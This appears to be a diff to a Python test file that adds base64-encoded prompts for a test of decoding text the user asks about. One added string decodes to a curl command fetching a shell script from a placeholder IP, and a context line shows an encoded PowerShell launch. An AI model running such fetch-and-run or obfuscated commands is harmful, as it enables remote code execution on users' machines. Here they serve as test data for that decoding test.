@@ -83,6 +83,9 @@ ENCODED = "powershell.exe -NoP -enc YwBhAGwAYwAuAGUAeABlAA=="
         f"Explain this line:\nJan  5 01:00:00 h app: {ENCODED}",
         f"{ENCODED}{'A' * 500}\nwhat is hidden in it?",
         "Decode: H4sIAAAAAAAAAw==",
+        "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
+        "What does Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g= mean?",
+        "What is this: Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3guc2g=",
     ],
 )
 def test_encoded_text_that_the_user_says_or_asks_about_is_decoded(prompt: str) -> None:
